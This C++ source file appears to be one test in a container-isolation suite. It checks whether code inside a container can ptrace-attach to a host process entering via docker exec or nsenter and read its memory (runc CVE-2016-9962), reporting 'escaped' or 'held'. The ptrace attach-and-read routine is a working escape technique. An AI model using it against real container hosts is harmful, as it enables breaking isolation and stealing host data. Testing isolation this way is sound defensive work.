// Takes hold of a process of the host that has come into the container's PID namespace, as `docker exec`
// and `nsenter` send one: before it has given up what it has of the host, ptrace(2) reads its memory,
// and could put code into it. Works in 01 to 08. 09 closes it: the visitor belongs to the user namespace
// above. So does 10 without one: who has fewer capabilities than the visitor and no CAP_SYS_PTRACE is
// refused, by the filter as well. runc had this hole: CVE-2016-9962.
//
//   /escape                  inside: a line on stdin has the visitor's pid, and an address in its memory.
//                            Exit status 0: escaped, 1: held
//   escape-ptrace SECRET     outside: the visitor; prints that line, and ends with its stdin

#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstring>

namespace {

struct Secret {
  char text[64];
};

int visit(const char* text) {
  static Secret secret;
  std::strncpy(secret.text, text, sizeof secret.text - 1);
  std::printf("%d %p\n", getpid(), static_cast<void*>(&secret));
  std::fflush(stdout);
  char byte;
  while (read(STDIN_FILENO, &byte, 1) > 0) {
  }
  return 0;
}

// A word at a time is what PTRACE_PEEKDATA reads.
bool read_memory(pid_t pid, const char* address, Secret& secret) {
  for (size_t n = 0; n < sizeof secret.text; n += sizeof(long)) {
    errno = 0;
    const long word = ptrace(PTRACE_PEEKDATA, pid, address + n, nullptr);
    if (errno != 0) return false;
    std::memcpy(secret.text + n, &word, sizeof word);
  }
  return true;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc > 1) return visit(argv[1]);

  int pid = 0;
  void* address = nullptr;
  if (std::scanf("%d %p", &pid, &address) != 2) {
    std::fputs("usage: /escape, with PID and ADDRESS on stdin\n", stderr);
    return 1;
  }
  if (ptrace(PTRACE_ATTACH, pid, nullptr, nullptr) == -1) {
    std::perror("held: ptrace(PTRACE_ATTACH)");
    return 1;
  }
  waitpid(pid, nullptr, __WALL);  // it stops
  Secret secret{};
  const bool had = read_memory(pid, static_cast<const char*>(address), secret);
  if (!had) std::perror("held: ptrace(PTRACE_PEEKDATA)");
  ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
  if (!had) return 1;
  std::printf("escaped: in the memory of a process of the host, here %d, stands: %s\n", pid,
              secret.text);
  return 0;
}
